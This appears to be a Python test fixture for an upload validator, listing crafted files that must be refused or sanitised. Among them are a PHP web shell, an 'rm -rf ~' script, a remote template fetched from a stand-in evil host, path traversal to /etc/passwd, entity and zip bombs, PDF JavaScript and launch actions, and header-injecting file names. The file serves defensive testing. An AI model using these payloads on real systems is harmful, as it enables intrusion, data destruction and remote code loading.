"""Seventy files that must not do what they were made for: refused with a reason, or made harmless."""

from collections.abc import Callable
from typing import NamedTuple

from verbinders.files.demo.paper import docx, odt, packed, pdf, relations, types
from verbinders.files.limits import DOCUMENT, ENTRIES, MB, TEXT
from verbinders.files.tests import made
from verbinders.files.tests.made import HTML, LAUGHS, LETTER, MACROS, SVG


class Bad(NamedTuple):
    """A file, how it is called, and why it is refused."""

    what: str
    name: str
    content: Callable[[], bytes]
    reason: str


ELSEWHERE = "https://elsewhere.example/evil.dotm"
FETCHED = (
    '<Relationship Id="rId1" TargetMode="External" Target="https://elsewhere.example/evil.dotm?a"'
    ' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
)
NEEDS = "Hello, this is no program at all.\n"

REFUSED = [
    # What a browser would run.
    Bad("an SVG with script", "tekening.svg", lambda: SVG, "markup"),
    Bad("an SVG that is called PNG", "tekening.png", lambda: SVG, "markup"),
    Bad("an SVG that is called PDF", "tekening.pdf", lambda: SVG, "markup"),
    Bad("an SVG with room before it", "tekening.txt", lambda: b"\xef\xbb\xbf \n" + SVG, "markup"),
    Bad("an SVG in UTF-16", "tekening.txt", lambda: SVG.decode().encode("utf-16"), "markup"),
    Bad("a web page", "pagina.html", lambda: HTML, "markup"),
    Bad("a web page that is called text", "pagina.txt", lambda: HTML, "markup"),
    Bad("a web page before a PDF", "pagina.pdf", lambda: HTML + pdf("Huisregels"), "markup"),
    Bad("XML that laughs a billion times", "lach.xml", lambda: LAUGHS, "markup"),
    Bad("a program for a server", "shell.txt", lambda: b"<?php system($_GET[0]);", "markup"),
    # Programs.
    Bad("a program for Windows", "spel.exe", lambda: b"MZ" + bytes(200), "program"),
    Bad("a program that is called PDF", "factuur.pdf", lambda: b"MZ" + bytes(200), "program"),
    Bad("a program that is called Word", "factuur.docx", lambda: b"\x7fELF" + bytes(200), "program"),
    Bad("a script that is called text", "lees.txt", lambda: b"#!/bin/sh\nrm -rf ~\n", "program"),
    Bad("a text that is called a program", "lees.bat", lambda: NEEDS.encode(), "unknown"),
    Bad("a script for a browser", "lees.js", lambda: b"alert(1)", "unknown"),
    Bad("a PDF that is called a program", "factuur.pdf.exe", lambda: pdf("Factuur"), "lie"),
    # Too little, too much.
    Bad("nothing", "leeg.pdf", lambda: b"", "empty"),
    Bad("one byte too many", "lang.pdf", lambda: b"%PDF-1.4" + bytes(DOCUMENT - 7), "size"),
    Bad("a text of more than anybody reads", "lang.txt", lambda: b"a" * (TEXT + 1), "size"),
    # Packed.
    Bad("a packed folder", "map.zip", lambda: packed({"a.txt": b"a"}), "archive"),
    Bad("a packed folder that is called Word", "map.docx", lambda: packed({"a.txt": b"a"}), "archive"),
    Bad("an empty packed folder", "map.docx", lambda: packed({}), "archive"),
    Bad("a folder packed by 7-Zip", "map.7z", lambda: b"7z\xbc\xaf\x27\x1c" + bytes(50), "archive"),
    Bad("a folder packed by RAR", "map.pdf", lambda: b"Rar!\x1a\x07\x00" + bytes(50), "archive"),
    Bad("a bomb of 210 MB", "bom.docx", lambda: made.bomb(210), "packed"),
    Bad("a bomb of 12 MB", "bom.docx", lambda: made.bomb(12), "packed"),
    Bad("parts that share their bytes", "bom.docx", made.overlapping, "damaged"),
    Bad("a second list of its parts", "bom.docx", made.listed_twice, "damaged"),
    Bad("too many parts", "veel.docx", lambda: made.crowd(ENTRIES), "packed"),
    Bad("a part that climbs out", "klim.docx", lambda: made.with_part("../../etc/passwd"), "damaged"),
    Bad("a part that begins at the root", "klim.docx", lambda: made.with_part("/etc/passwd"), "damaged"),
    Bad("a part on another disk", "klim.docx", lambda: made.with_part("C:/windows/a.xml"), "damaged"),
    Bad("a part twice", "dubbel.docx", lambda: made.with_part("WORD/DOCUMENT.XML"), "damaged"),
    Bad("a lock on it", "slot.docx", made.locked, "locked"),
    Bad("something behind it", "staart.docx", lambda: docx(["a"]) + SVG, "damaged"),
    Bad("a program before it", "kop.docx", lambda: b"MZ" + bytes(98) + docx(["a"]), "program"),
    Bad("half of it", "half.docx", lambda: docx(["a"])[: len(docx(["a"])) // 2], "damaged"),
    # Documents that act.
    Bad(
        "a document with macros",
        "brief.docx",
        lambda: packed(LETTER | {"[Content_Types].xml": types("word/document.xml", "x").replace("x+xml", MACROS)}),
        "program",
    ),
    Bad("a program in a document", "brief.docx", lambda: made.with_part("word/vbaProject.bin"), "program"),
    Bad("an ActiveX control in a document", "brief.docx", lambda: made.with_part("word/activeX/a.xml"), "program"),
    Bad("a folder in a document", "brief.docx", lambda: made.with_part("word/media/a.zip"), "nested"),
    Bad("an object in a document", "brief.docx", lambda: made.with_part("word/embeddings/oleObject1.bin"), "nested"),
    Bad(
        "a template from elsewhere",
        "brief.docx",
        lambda: made.with_part(
            "word/_rels/settings.xml.rels", relations("rId1", "attachedTemplate", ELSEWHERE, outside=True)
        ),
        "fetches",
    ),
    Bad(
        "a template from a server in the house",
        "brief.docx",
        lambda: made.with_part(
            "word/_rels/settings.xml.rels", relations("rId1", "attachedTemplate", r"\\server\a.dotm", outside=True)
        ),
        "fetches",
    ),
    Bad("the same, with signs in code", "a.docx", lambda: made.fetching(FETCHED.replace("Ext", "&#69;xt")), "fetches"),
    Bad("the same, with a > in it", "a.docx", lambda: made.fetching(FETCHED.replace(" Id=", " A='>' Id=")), "fetches"),
    Bad("the same, with a trick", "a.docx", lambda: made.fetching(FETCHED.replace("?a", "?Target='x'")), "fetches"),
    Bad("the same, far behind", "a.docx", lambda: made.fetching(FETCHED, f"<!--{'a b ' * MB}-->"), "packed"),
    Bad(
        "entities behind a comment",
        "a.docx",
        lambda: made.with_part("word/x.xml", b"<!-- <a> -->" + LAUGHS + b"<a/>"),
        "damaged",
    ),
    Bad(
        "entities behind a comment longer than we look",
        "a.docx",
        lambda: made.with_part("word/x.xml", b"<!-- <a" + b" " * 9_000 + b"-->" + LAUGHS + b"<a/>"),
        "damaged",
    ),
    Bad("a list of parts that is no XML", "a.docx", lambda: made.with_part("[Content_Types].xml", b"<a"), "damaged"),
    Bad("entities in a document", "brief.docx", lambda: made.with_part("word/x.xml", LAUGHS + b"<a/>"), "damaged"),
    Bad("a table that looks elsewhere", "kas.xlsx", lambda: made.sheet("xl/externalLinks/a.xml"), "fetches"),
    Bad("a table that is called a letter", "kas.docx", made.sheet, "lie"),
    Bad("an open document with macros", "brief.odt", lambda: made.open_document(Basic__a="Sub"), "program"),
    Bad("a book", "boek.odt", lambda: made.open_document("application/epub+zip"), "unknown"),
    Bad("an old document", "brief.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(50), "old_office"),
    Bad("rich text", "brief.rtf", lambda: b"{\\rtf1 a}", "rich_text"),
    # PDFs that act.
    Bad("a program in a PDF", "a.pdf", lambda: made.paper(b"<< /S /JavaScript /JS (app.alert(1)) >>"), "program"),
    Bad("the same in code", "a.pdf", lambda: made.paper(b"<< /S /J#61v#61#53cript /JS (1) >>"), "program"),
    Bad("the same, packed away", "a.pdf", lambda: made.hidden(b"<< /S /JavaScript /JS (1) >>"), "program"),
    Bad(
        "the same, called a picture",
        "a.pdf",
        lambda: made.hidden(b"<< /S /JavaScript /JS (1) >>").replace(b"/ObjStm", b"/Obj#53tm /Subtype /Image"),
        "program",
    ),
    Bad(
        "the same, called nothing but a picture",
        "a.pdf",
        lambda: made.hidden(b"<< /S /JavaScript /JS (1) >>").replace(b"/Type /ObjStm", b"/Subtype /Image"),
        "program",
    ),
    Bad("the same in another way", "a.pdf", lambda: made.hidden(b"<< >>", b"/Filter /LZWDecode"), "closed"),
    Bad("a PDF that starts something", "a.pdf", lambda: made.paper(b"<< /S /Launch /F (calc.exe) >>"), "program"),
    Bad("a file in a PDF", "a.pdf", lambda: made.paper(b"<< /Type /EmbeddedFile >>"), "nested"),
    Bad("a locked PDF", "a.pdf", lambda: made.paper(b"<< /Encrypt 8 0 R >>"), "locked"),
    Bad("half a PDF", "a.pdf", lambda: pdf("Huisregels")[:300], "damaged"),
    Bad("a PDF that is a folder, too", "a.pdf", lambda: pdf("A") + docx(["a"]) + b"\n%%EOF", "damaged"),
    Bad("a bomb in a PDF", "a.pdf", lambda: made.hidden(b" " * (60 * MB)), "packed"),
    # Names that lie, and pictures.
    Bad("a picture that is called PDF", "foto.pdf", made.picture, "lie"),
    Bad("a PDF that is called a picture", "foto.png", lambda: pdf("Foto"), "lie"),
    Bad("a picture of 900 million points", "groot.png", lambda: made.claiming(30_000, 30_000), "points"),
    Bad("a picture that fills the memory", "zwaar.png", lambda: made.claiming(5000, 5000, 6), "weight"),
    Bad("a ribbon", "lint.png", lambda: made.picture(size=(2100, 100)), "ratio"),
    Bad("half a photo", "half.jpg", lambda: made.picture("JPEG", size=(600, 400))[:200], "kind"),
    Bad("a photo as some phones keep it", "foto.heic", lambda: b"\0\0\0\x18ftypheic" + bytes(50), "phone_photo"),
    Bad("a picture of an old kind", "foto.png", lambda: made.picture("TIFF"), "unknown"),
    Bad("a film", "film.pdf", lambda: b"\0\0\0\x18ftypmp42" + bytes(50), "unknown"),
    # No text.
    Bad("bytes that are called text", "lees.txt", lambda: b"a\x00b\x01c", "unknown"),
    Bad("text that is no text", "lees.txt", lambda: b"\x81\x8d\x8f\x90\x9d", "text"),
    Bad("text with signs for machines", "lees.txt", lambda: b"a\x1b[2Jb", "text"),
]


class Harmless(NamedTuple):
    """A file that is taken, and what must be gone from it."""

    what: str
    name: str
    content: Callable[[], bytes]
    kept: str
    kind: str
    gone: tuple[bytes, ...] = ()


MADE_HARMLESS = [
    Harmless(
        "a photo with its place", "foto.jpg", made.photo_with_place, "foto.jpg", "jpg", (b"Exif", b"home", b"Nokia")
    ),
    Harmless("a page in a picture", "foto.png", made.page_in_png, "foto.png", "png", (b"script", b"tEXt")),
    Harmless("a page behind a picture", "a.gif", lambda: made.picture("GIF", "P") + HTML, "a.png", "png", (b"script",)),
    Harmless(
        "a folder behind a photo", "a.jpg", lambda: made.picture("JPEG") + docx(["a"]), "a.jpg", "jpg", (b"PK\x03",)
    ),
    Harmless("a picture with another picture's name", "a.jpg", made.picture, "a.png", "png"),
    Harmless("a name that climbs out", "../../../etc/passwd.pdf", lambda: pdf("A"), "passwd.pdf", "pdf"),
    Harmless("a name of Windows that climbs out", "..\\..\\boot.pdf", lambda: pdf("A"), "boot.pdf", "pdf"),
    Harmless("a name that turns round", "rapport\u202etxt.pdf", lambda: pdf("A"), "rapporttxt.pdf", "pdf"),
    Harmless("a name with nothing in it", "\u200b\u202e.pdf", lambda: pdf("A"), "document.pdf", "pdf"),
    Harmless("a name with NUL", "a\x00b.pdf", lambda: pdf("A"), "a b.pdf", "pdf"),
    Harmless("a name of two lines", "a\r\nSet-Cookie: b.pdf", lambda: pdf("A"), "a Set-Cookie b.pdf", "pdf"),
    Harmless("a name of 300 signs", "a" * 296 + ".pdf", lambda: pdf("A"), "a" * 116 + ".pdf", "pdf"),
    Harmless("a name without an ending", "Verslag 12.03.2026", lambda: pdf("A"), "Verslag 12.03.2026.pdf", "pdf"),
    Harmless("a name that begins with a dot", ".htaccess.txt", lambda: b"a", "htaccess.txt", "txt"),
    Harmless("a text of old Windows", "a.txt", lambda: "Één".encode("cp1252"), "a.txt", "txt", (b"\xc9",)),
    Harmless("a text in UTF-16", "a.txt", lambda: "Één".encode("utf-16"), "a.txt", "txt", (b"\xff\xfe",)),
    Harmless(
        "a template on one's own disk",
        "a.docx",
        lambda: made.with_part(
            "word/_rels/settings.xml.rels", relations("rId1", "attachedTemplate", "file:///C:\\a.dotm", outside=True)
        ),
        "a.docx",
        "docx",
    ),
    Harmless("an open document", "a.odt", lambda: odt("a"), "a.odt", "odt"),
    Harmless("a table", "a.xlsx", made.sheet, "a.xlsx", "xlsx"),
]
